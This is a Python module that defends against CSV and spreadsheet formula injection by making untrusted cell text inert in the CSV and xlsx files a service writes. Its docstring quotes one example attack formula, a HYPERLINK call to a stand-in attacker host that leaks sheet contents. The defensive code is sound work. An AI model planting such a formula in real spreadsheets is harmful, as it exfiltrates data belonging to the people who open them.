"""Cells of the spreadsheets the service writes: values that a spreadsheet never runs as code.

Theory of operation
-------------------
A statement's cells carry text the service did not write: ticket ids, clause names, waiver
reasons, all of them from help desks and contract files. A spreadsheet program reads a cell
that begins with ``=``, ``+``, ``-`` or ``@`` (and, after a TAB or CR, the same again) as a
formula: ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` then leaks the sheet, and DDE
formulas run programs. So every CSV and xlsx file the project writes goes through this module,
and ``inert`` is the one rule both use:

- **CSV** (``csv_document``): a text cell whose first character is one of ``= + - @ TAB CR``
  gets a leading apostrophe (OWASP's CSV-injection rule); Excel shows the text, never runs it.
  A cell that is a plain number (``-500.00``, an adjustment) is left alone: a number is not a
  formula, and a statement's amounts must stay numbers.
- **xlsx** (``xlsx_append``): every text cell is written as a string cell (openpyxl would write
  a text starting with ``=`` as a formula), and one that begins with a risky character gets
  Excel's "quote prefix" style too, so editing the cell keeps it text. Numbers, dates and times
  stay typed values. The project writes no formula of its own; one that it did would have to
  be given as ``ProjectFormula`` to say so.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

#: The first characters that make a spreadsheet read a cell as a formula (OWASP).
RISKY_FIRST = frozenset("=+-@\t\r")

_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


class ProjectFormula(str):
    """A formula the project wrote itself (the only kind of cell written as one)."""


def risky(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula (and it is not a plain number)."""
    return bool(text) and text[0] in RISKY_FIRST and _NUMBER.fullmatch(text) is None


def inert(text: str) -> str:
    """``text`` as a CSV cell that no spreadsheet runs: an apostrophe before a risky first
    character (``=1+1`` → ``'=1+1``); any other text as it is."""
    return "'" + text if risky(text) else text


def csv_document(rows: Iterable[Sequence[str]]) -> bytes:
    """Rows of text as a CSV file for Excel: UTF-8 with BOM, CRLF line ends, each cell
    ``inert``. The one way the project writes CSV."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerows([inert(cell) for cell in row] for row in rows)
    return buffer.getvalue().encode("utf-8-sig")


def xlsx_append(sheet: Any, row: Sequence[Any]) -> None:
    """Append ``row`` to an openpyxl worksheet, every text cell a string, never a formula (a
    ``ProjectFormula`` excepted), a risky one with the quote prefix. The one way the project
    adds cells to a workbook."""
    sheet.append(list(row))
    if not row:
        return
    for cell, value in zip(sheet[sheet.max_row], row, strict=False):
        if isinstance(value, ProjectFormula):
            continue
        if isinstance(value, str):
            cell.data_type = "s"
            if risky(value):
                cell.quotePrefix = True
